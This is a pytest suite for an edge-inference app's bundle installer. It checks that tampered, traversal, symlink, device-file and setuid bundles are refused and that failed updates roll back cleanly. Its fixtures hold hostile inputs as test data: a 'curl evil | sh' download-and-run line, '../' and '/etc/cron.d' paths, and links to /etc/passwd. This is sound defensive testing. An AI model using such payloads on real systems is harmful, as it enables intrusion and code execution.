"""`edgecnn deploy install` refuses tampered and unsafe bundles, and leaves no trace (nor a broken app) when it does."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest
from asserts import raises

from edgecnn.deploy.bundle import BundleOptions, create_bundle
from edgecnn.deploy.install import check_members, install_bundle, list_releases, releases_dir
from edgecnn.errors import ArtifactError, UserInputError


@pytest.fixture
def bundle(tmp_path, tiny_onnx) -> Path:
    out = tmp_path / "app.tar.gz"
    create_bundle(tiny_onnx, out, BundleOptions())
    return out


def repack(src: Path, dst: Path, change=None, extra: list[tuple[tarfile.TarInfo, bytes | None]] = ()) -> Path:
    """Copy bundle `src` to `dst`; `change(name, data) -> data | None` edits (None drops) a member; `extra` adds."""
    with tarfile.open(src) as tin, tarfile.open(dst, "w:gz") as tout:
        for m in tin.getmembers():
            data = tin.extractfile(m).read() if m.isfile() else None
            if change is not None:
                data = change(m.name, data)
                if data is None:
                    continue
            info = tarfile.TarInfo(m.name)
            info.size, info.mode = len(data), m.mode
            tout.addfile(info, io.BytesIO(data))
        for info, data in extra:
            tout.addfile(info, io.BytesIO(data) if data is not None else None)
    return dst


def member(name: str, kind=tarfile.REGTYPE, data: bytes = b"x", link: str = "") -> tuple[tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    return info, data if kind == tarfile.REGTYPE else None


def assert_refused(bundle: Path, prefix: Path, *mentions: str, exc=ArtifactError):
    with raises(exc, *mentions):
        install_bundle(bundle, prefix, build_engine=False)
    leftovers = sorted(p.name for p in prefix.iterdir()) if prefix.exists() else []
    assert leftovers in ([], [".tiny.releases", "tiny"]), f"staging left behind: {leftovers}"
    if leftovers:
        assert [p.name for p in (prefix / ".tiny.releases").iterdir() if p.name.startswith(".")] == []


def test_tampered_file_is_refused(bundle, tmp_path):
    bad = repack(bundle, tmp_path / "bad.tar.gz", lambda n, d: d + b"\x00" if n == "tiny/model.onnx" else d)
    assert_refused(bad, tmp_path / "prefix", "model.onnx", "SHA256SUMS")


def test_tampered_start_script_is_refused(bundle, tmp_path):
    bad = repack(
        bundle,
        tmp_path / "bad.tar.gz",
        lambda n, d: d.replace(b"set -euo pipefail", b"curl evil | sh") if n == "tiny/start.sh" else d,
    )
    assert_refused(bad, tmp_path / "prefix", "start.sh")


def test_unlisted_and_missing_files_are_refused(bundle, tmp_path):
    extra = repack(
        bundle, tmp_path / "extra.tar.gz", extra=[member("tiny/lib/edgecnn/sitecustomize.py", data=b"import os")]
    )
    assert_refused(extra, tmp_path / "p1", "sitecustomize.py", "SHA256SUMS")
    missing = repack(bundle, tmp_path / "missing.tar.gz", lambda n, d: None if n == "tiny/labels.txt" else d)
    assert_refused(missing, tmp_path / "p2", "labels.txt", "SHA256SUMS")
    nosums = repack(bundle, tmp_path / "nosums.tar.gz", lambda n, d: None if n == "tiny/SHA256SUMS" else d)
    assert_refused(nosums, tmp_path / "p3", "SHA256SUMS")


@pytest.mark.parametrize(
    "name,kind,link,mentions",
    [
        ("/etc/cron.d/evil", tarfile.REGTYPE, "", "/etc/cron.d/evil"),
        ("tiny/../../evil.sh", tarfile.REGTYPE, "", "tiny/../../evil.sh"),
        ("tiny/lib/../../../evil.sh", tarfile.REGTYPE, "", "tiny/lib/../../../evil.sh"),
        ("tiny/passwd", tarfile.SYMTYPE, "/etc/passwd", "tiny/passwd"),
        ("tiny/up", tarfile.SYMTYPE, "../../..", "tiny/up"),
        ("tiny/hard", tarfile.LNKTYPE, "tiny/start.sh", "tiny/hard"),
        ("tiny/sda", tarfile.BLKTYPE, "", "tiny/sda"),
        ("tiny/null", tarfile.CHRTYPE, "", "tiny/null"),
        ("tiny/fifo", tarfile.FIFOTYPE, "", "tiny/fifo"),
        ("other/file", tarfile.REGTYPE, "", "other"),
    ],
)
def test_unsafe_members_are_refused_before_anything_is_written(bundle, tmp_path, name, kind, link, mentions):
    bad = repack(bundle, tmp_path / "bad.tar.gz", extra=[member(name, kind, link=link)])
    prefix = tmp_path / "deep" / "er" / "prefix"
    assert_refused(bad, prefix, mentions)
    assert not prefix.exists(), "nothing is created when a member is unsafe"
    assert not (tmp_path / "evil.sh").exists() and not (tmp_path / "deep" / "evil.sh").exists()


def test_check_members_accepts_a_real_bundle(bundle):
    with tarfile.open(bundle) as tar:
        assert check_members(tar.getmembers()) == "tiny"


def test_not_a_bundle(tmp_path):
    junk = tmp_path / "junk.tar.gz"
    junk.write_bytes(b"not gzip at all")
    assert_refused(junk, tmp_path / "prefix", "junk.tar.gz")
    with raises(UserInputError, "missing"):
        install_bundle(tmp_path / "missing.tar.gz", tmp_path / "prefix")


def test_truncated_bundle_is_refused(bundle, tmp_path):
    data = bundle.read_bytes()
    cut = tmp_path / "cut.tar.gz"
    cut.write_bytes(data[: len(data) // 2])
    assert_refused(cut, tmp_path / "prefix", "cut.tar.gz")


def test_archive_sha256_sidecar(bundle, tmp_path):
    side = bundle.with_name(bundle.name + ".sha256")
    side.write_text("0" * 64 + "  app.tar.gz\n")
    assert_refused(bundle, tmp_path / "prefix", "app.tar.gz")
    from edgecnn.files import sha256_file

    side.write_text(sha256_file(bundle) + "  app.tar.gz\n")
    assert install_bundle(bundle, tmp_path / "prefix", build_engine=False).archive_checked


def test_failed_update_keeps_the_previous_install(bundle, tmp_path):
    prefix = tmp_path / "prefix"
    good = install_bundle(bundle, prefix, build_engine=False)
    before = (Path(good.app_dir) / "model.onnx").read_bytes()
    bad = repack(bundle, tmp_path / "bad.tar.gz", lambda n, d: d[::-1] if n == "tiny/model.onnx" else d)
    assert_refused(bad, prefix, "model.onnx")
    assert (Path(good.app_dir) / "model.onnx").read_bytes() == before
    assert sorted(p.name for p in prefix.iterdir()) == [".tiny.releases", "tiny"]


def test_modes_are_sanitised(bundle, tmp_path):
    """setuid/setgid/world-writable bits in a bundle never reach the disk."""
    with tarfile.open(bundle) as tin, tarfile.open(tmp_path / "suid2.tar.gz", "w:gz") as tout:
        for m in tin.getmembers():
            m.mode = 0o6777 if m.name.endswith("start.sh") else m.mode
            tout.addfile(m, tin.extractfile(m))
    report = install_bundle(tmp_path / "suid2.tar.gz", tmp_path / "prefix", build_engine=False)
    assert (Path(report.app_dir) / "start.sh").stat().st_mode & 0o7777 == 0o755
    assert (Path(report.app_dir) / "model.onnx").stat().st_mode & 0o7777 == 0o644


def test_corrupted_gzip_stream_is_refused(bundle, tmp_path):
    data = bytearray(bundle.read_bytes())
    for i in range(len(data) // 2, len(data) // 2 + 64):
        data[i] ^= 0xFF
    bad = tmp_path / "flipped.tar.gz"
    bad.write_bytes(bytes(data))
    assert_refused(
        bad,
        tmp_path / "prefix",
    )  # the damage decides which check fires


# ---------------------------------------------------------------- updates: all or nothing, previous kept


def resigned(src: Path, dst: Path, change) -> Path:
    """Like `repack`, but SHA256SUMS is rewritten to match: a consistent bundle whose content differs (as a newer
    version, or a broken one, would)."""
    import hashlib

    from edgecnn.deploy.bundle import sha256sums_text

    files = {}
    with tarfile.open(src) as tin:
        for m in tin.getmembers():
            if m.isfile():
                files[m.name] = (m.mode, change(m.name, tin.extractfile(m).read()))
    top = next(iter(files)).split("/", 1)[0]
    sums = {
        n.split("/", 1)[1]: hashlib.sha256(d).hexdigest()
        for n, (_, d) in files.items()
        if not n.endswith("/SHA256SUMS")
    }
    files[f"{top}/SHA256SUMS"] = (0o644, sha256sums_text(sums).encode())
    with tarfile.open(dst, "w:gz") as tout:
        for name, (mode, data) in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            tout.addfile(info, io.BytesIO(data))
    return dst


FAILING_PREPARE = b'#!/usr/bin/env bash\necho "no space left for the engine" >&2\nexit 1\n'


def snapshot(folder: Path) -> dict:
    """Every file and folder under `folder` with its bytes, mode and inode: 'exactly as it was'."""
    out = {}
    for p in sorted(folder.rglob("*")):
        st = p.stat()
        out[p.relative_to(folder).as_posix()] = (st.st_ino, st.st_mode, None if p.is_dir() else p.read_bytes())
    return out


@pytest.fixture
def installed(bundle, tmp_path) -> Path:
    """A working install with a built engine and a file the user added."""
    report = install_bundle(bundle, tmp_path / "prefix", build_engine=False)
    app = Path(report.app_dir)
    (app / "engines").mkdir()
    (app / "engines" / "abc-trt10.3.0-fp16.engine").write_bytes(b"engine bytes")
    (app / "local.conf").write_text("EDGECNN_SOURCE=rtsp://cam\n")
    return app


def test_failed_prepare_leaves_the_previous_install_exactly(bundle, tmp_path, installed):
    before = snapshot(installed)
    bad = resigned(bundle, tmp_path / "v2.tar.gz", lambda n, d: FAILING_PREPARE if n == "tiny/start.sh" else d)
    with raises(ArtifactError, "--prepare failed", "start.sh"):
        install_bundle(bad, installed.parent)
    assert snapshot(installed) == before
    assert sorted(p.name for p in installed.parent.iterdir()) == [".tiny.releases", "tiny"], "no staging left"
    assert len(list(releases_dir(installed).iterdir())) == 1


def test_failed_prepare_through_the_cli_is_one_line(bundle, tmp_path, installed):
    from typer.testing import CliRunner

    from edgecnn.cli.main import app as cli

    before = snapshot(installed)
    bad = resigned(bundle, tmp_path / "v2.tar.gz", lambda n, d: FAILING_PREPARE if n == "tiny/start.sh" else d)
    res = CliRunner().invoke(cli, ["deploy", "install", str(bad), "--prefix", str(installed.parent)])
    assert res.exit_code == 4, res.output
    assert "internal error" not in res.output and "Traceback" not in res.output
    assert "unchanged" in res.output.strip().splitlines()[-1]
    assert snapshot(installed) == before


def test_failed_first_install_leaves_nothing(bundle, tmp_path):
    bad = resigned(bundle, tmp_path / "v2.tar.gz", lambda n, d: FAILING_PREPARE if n == "tiny/start.sh" else d)
    prefix = tmp_path / "new" / "prefix"
    with raises(ArtifactError, str(prefix)):
        install_bundle(bad, prefix)
    assert not (tmp_path / "new").exists()


def test_failed_service_step_restores_install_and_unit(bundle, tmp_path, installed):
    """`systemctl enable` failing after the new version was swapped in: the old app and the old unit come back."""
    import getpass

    from edgecnn.deploy.install import ServiceTarget

    units = tmp_path / "units"
    units.mkdir()
    (units / "tiny.service").write_text("[Unit]\nDescription=the previous unit\n")
    log = tmp_path / "systemctl.log"
    fake = tmp_path / "systemctl"
    fake.write_text(
        f'#!/bin/sh\necho "$@" >> {log}\n[ "$1" = enable ] && {{ echo "unit is masked" >&2; exit 1; }}\nexit 0\n'
    )
    fake.chmod(0o755)
    before = snapshot(installed)
    v2 = resigned(bundle, tmp_path / "v2.tar.gz", lambda n, d: d + b"\n" if n == "tiny/README.md" else d)
    target = ServiceTarget(
        unit_dir=units, systemctl=(str(fake),), is_root=True, has_systemd=True, user=getpass.getuser()
    )
    with raises(UserInputError, "tiny.service"):
        install_bundle(v2, installed.parent, build_engine=False, service=True, service_target=target)
    assert snapshot(installed) == before
    assert (units / "tiny.service").read_text() == "[Unit]\nDescription=the previous unit\n"
    assert log.read_text().splitlines() == ["daemon-reload", "enable tiny.service", "daemon-reload"]
    assert sorted(p.name for p in installed.parent.iterdir()) == [".tiny.releases", "tiny"]
    assert len(list(releases_dir(installed).iterdir())) == 1


def test_reinstall_says_so_and_keeps_the_previous_release(bundle, tmp_path, installed):
    from typer.testing import CliRunner

    from edgecnn.cli.main import app as cli

    prefix = installed.parent
    old_readme = (installed / "README.md").read_bytes()
    v2 = resigned(bundle, tmp_path / "v2.tar.gz", lambda n, d: d + b"\nv2\n" if n == "tiny/README.md" else d)
    res = CliRunner().invoke(cli, ["deploy", "install", str(v2), "--prefix", str(prefix), "--no-build"])
    assert res.exit_code == 0, res.output
    text = " ".join(res.output.split())
    assert f"replaced the previous install at {installed}" in text and "--rollback tiny" in text
    assert "user files in it are not" in text and "not carried over: local.conf" in text
    assert installed.is_symlink()
    previous = [r for r in list_releases(installed) if r.resolve() != installed.resolve()]
    assert len(previous) == 1 and f"kept as release {previous[0]}" in text
    assert (previous[0] / "local.conf").read_text() == "EDGECNN_SOURCE=rtsp://cam\n"
    assert (previous[0] / "README.md").read_bytes() == old_readme
    assert (installed / "README.md").read_bytes().endswith(b"\nv2\n")
    assert (installed / "engines" / "abc-trt10.3.0-fp16.engine").read_bytes() == b"engine bytes"
    assert not (installed / "local.conf").exists()

    third = install_bundle(bundle, prefix, build_engine=False)  # current + previous kept: the first one goes
    assert third.replaced_previous and Path(third.previous_kept).resolve() != previous[0].resolve()
    assert (Path(third.previous_kept) / "README.md").read_bytes().endswith(b"\nv2\n")
    assert len(list_releases(installed)) == 2 and not previous[0].exists()
    assert sorted(p.name for p in prefix.iterdir()) == [".tiny.releases", "tiny"]


def test_rollback_restores_the_previous_install_exactly(bundle, tmp_path, installed):
    """`deploy install --rollback NAME`: the previous release, complete, by one symlink rename."""
    from typer.testing import CliRunner

    from edgecnn.cli.main import app as cli

    before = snapshot(installed)
    v2 = resigned(bundle, tmp_path / "v2.tar.gz", lambda n, d: d + b"\nv2\n" if n == "tiny/README.md" else d)
    install_bundle(v2, installed.parent, build_engine=False)
    assert snapshot(installed) != before
    res = CliRunner().invoke(cli, ["deploy", "install", "--rollback", "tiny", "--prefix", str(installed.parent)])
    assert res.exit_code == 0, res.output
    assert snapshot(installed) == before
    res = CliRunner().invoke(cli, ["deploy", "install", str(v2), "--rollback", "tiny"])
    assert res.exit_code == 2 and "not both" in res.output


@pytest.mark.parametrize("kind", ["file", "under-file", "proc"])
def test_unusable_prefix_is_a_clear_error(bundle, tmp_path, kind):
    from typer.testing import CliRunner

    from edgecnn.cli.main import app as cli

    afile = tmp_path / "afile"
    afile.write_text("not a folder")
    listing = sorted(p.name for p in tmp_path.iterdir())
    prefix = {"file": afile, "under-file": afile / "sub", "proc": Path("/proc/edgecnn-test")}[kind]
    if kind == "proc" and not Path("/proc/self").is_dir():
        pytest.skip("no /proc here")
    res = CliRunner().invoke(cli, ["deploy", "install", str(bundle), "--prefix", str(prefix), "--no-build"])
    assert res.exit_code == 2, res.output
    assert "internal error" not in res.output and res.output.startswith("error: ")
    assert afile.read_text() == "not a folder"
    assert sorted(p.name for p in tmp_path.iterdir()) == listing


@pytest.mark.parametrize(
    "extra",
    [
        [member("tiny/labels.txt/x")],  # a file that is also a folder
        [member("tiny/model.onnx/", tarfile.DIRTYPE)],
        [member("tiny/lib/edgecnn", data=b"x")],  # a folder the bundle fills, shipped as a file too
    ],
)
def test_file_folder_clash_is_refused_before_writing(bundle, tmp_path, extra):
    bad = repack(bundle, tmp_path / "clash.tar.gz", extra=extra)
    prefix = tmp_path / "new" / "prefix"
    assert_refused(bad, prefix)  # a clash of a file and a folder
    assert not (tmp_path / "new").exists()


def test_refused_after_extraction_leaves_no_prefix_folder(bundle, tmp_path):
    bad = repack(bundle, tmp_path / "bad.tar.gz", lambda n, d: d + b"\x00" if n == "tiny/model.onnx" else d)
    with raises(ArtifactError, "model.onnx"):
        install_bundle(bad, tmp_path / "new" / "prefix", build_engine=False)
    assert not (tmp_path / "new").exists()
    (tmp_path / "mine").mkdir()  # a prefix the user made is kept, empty
    with raises(ArtifactError, "model.onnx"):
        install_bundle(bad, tmp_path / "mine", build_engine=False)
    assert (tmp_path / "mine").is_dir() and not list((tmp_path / "mine").iterdir())


def test_sha256sums_naming_files_outside_the_bundle_is_refused(bundle, tmp_path):
    """A listed `../..` path would be read (an oracle for files on the device) and count as verified."""
    import hashlib

    outside = tmp_path / "outside.txt"
    outside.write_text("a file on the device")
    line = f"{hashlib.sha256(outside.read_bytes()).hexdigest()}  ../../outside.txt\n".encode()
    bad = repack(bundle, tmp_path / "bad.tar.gz", lambda n, d: d + line if n == "tiny/SHA256SUMS" else d)
    assert_refused(bad, tmp_path / "prefix", "SHA256SUMS")


def test_manifest_run_onnx_outside_the_bundle_is_refused(bundle, tmp_path):
    import json

    def change(name, data):
        if name != "tiny/bundle.json":
            return data
        return json.dumps(dict(json.loads(data), run_onnx="../../../etc/passwd")).encode()

    bad = resigned(bundle, tmp_path / "bad.tar.gz", change)
    assert_refused(bad, tmp_path / "prefix", "run_onnx", "../../../etc/passwd")
